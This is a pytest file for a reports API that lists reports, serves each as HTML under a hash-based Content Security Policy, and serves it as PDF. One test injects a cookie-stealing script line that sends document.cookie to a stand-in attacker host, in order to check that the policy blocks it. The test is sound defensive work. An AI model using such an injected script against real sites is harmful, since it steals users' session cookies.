"""The reports API: the list newest first, each report as HTML (under its CSP) and as PDF."""

import uuid
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient

from resync.db.engine import session_scope
from resync.db.models import Report
from resync.reports.content_security import DRAW_CHARTS, content_security_policy, script_hash

REPORTS = "/api/v1/reports"
HTML = f"<!doctype html><title>r</title><script>{DRAW_CHARTS}</script><p>WS-DISK</p>"


def store(title: str, created_at: datetime, kind: str = "capacity") -> uuid.UUID:
    pdf = b"%PDF-1.4 " + title.encode()
    report = Report(
        kind=kind,
        title=title,
        created_at=created_at,
        flow_run_id=uuid.uuid4(),
        capacity_run_id=uuid.uuid4() if kind == "capacity" else None,
        summary={"at_risk": 2, "open_alerts": 1},
        html=HTML,
        html_bytes=len(HTML.encode()),
        pdf=pdf,
        pdf_bytes=len(pdf),
    )
    with session_scope() as session:
        session.add(report)
    return report.id


@pytest.fixture
def headers(make_key) -> dict[str, str]:
    _, key = make_key(["workflows:read"])
    return {"X-API-Key": key}


def test_reports_are_listed_newest_first_without_their_documents(
    client: TestClient, headers
) -> None:
    now = datetime.now(UTC)
    older = store("Capacity report 2026-11-20", now - timedelta(days=7))
    newer = store("Estate report 2026-11-27", now, kind="estate")

    response = client.get(REPORTS, headers=headers)

    assert response.status_code == 200
    body = response.json()
    assert body["count"] == 2
    assert [item["id"] for item in body["data"]] == [str(newer), str(older)]
    first = body["data"][0]
    assert first["kind"] == "estate" and first["capacity_run_id"] is None
    assert first["html_url"] == f"{REPORTS}/{newer}.html"
    assert first["pdf_url"] == f"{REPORTS}/{newer}.pdf"
    assert first["summary"] == {"at_risk": 2, "open_alerts": 1}
    assert first["html_bytes"] == len(HTML) and first["pdf_bytes"] == len(
        b"%PDF-1.4 Estate report 2026-11-27"
    )
    assert "html" not in first and "pdf" not in first


def test_an_empty_list(client: TestClient, headers) -> None:
    response = client.get(REPORTS, headers=headers)
    assert (response.status_code, response.json()) == (200, {"data": [], "count": 0})


def test_a_report_as_html_under_its_content_security_policy(client: TestClient, headers) -> None:
    report_id = store("Capacity report 2026-11-27", datetime.now(UTC))

    response = client.get(f"{REPORTS}/{report_id}.html", headers=headers)

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert response.text == HTML
    policy = response.headers["content-security-policy"]
    assert policy == content_security_policy(HTML)
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert "unsafe-inline" not in policy.split("script-src", 1)[1].split(";", 1)[0]


def test_only_the_report_script_may_run(client: TestClient, headers) -> None:
    injected = "fetch('https://attacker.test/?' + document.cookie)"
    report_id = store("Capacity report 2026-11-27", datetime.now(UTC))
    with session_scope() as session:
        report = session.get(Report, report_id)
        report.html = HTML.replace("<p>WS-DISK</p>", f"<p>WS-DISK<script>{injected}</script></p>")

    response = client.get(f"{REPORTS}/{report_id}.html", headers=headers)

    script_src = response.headers["content-security-policy"].split("; ")[1]
    assert script_src == f"script-src {script_hash(DRAW_CHARTS)}"


def test_a_report_as_pdf_with_a_file_name(client: TestClient, headers) -> None:
    report_id = store("Capacity report 2026-11-27", datetime.now(UTC))

    response = client.get(f"{REPORTS}/{report_id}.pdf", headers=headers)

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == (
        'inline; filename="capacity-report-2026-11-27.pdf"'
    )
    assert response.content == b"%PDF-1.4 Capacity report 2026-11-27"


@pytest.mark.parametrize("suffix", ["html", "pdf"])
def test_an_unknown_report_is_404_and_a_malformed_id_422(
    client: TestClient, headers, suffix: str
) -> None:
    unknown = uuid.uuid4()
    response = client.get(f"{REPORTS}/{unknown}.{suffix}", headers=headers)
    assert response.status_code == 404
    assert response.json() == {"detail": f"Report {unknown} not found"}

    response = client.get(f"{REPORTS}/not-a-report.{suffix}", headers=headers)
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["path", "report_id"]


def test_other_suffixes_are_not_routes(client: TestClient, headers) -> None:
    report_id = store("Capacity report 2026-11-27", datetime.now(UTC))
    assert client.get(f"{REPORTS}/{report_id}.docx", headers=headers).status_code == 404
    assert client.get(f"{REPORTS}/{report_id}", headers=headers).status_code == 404
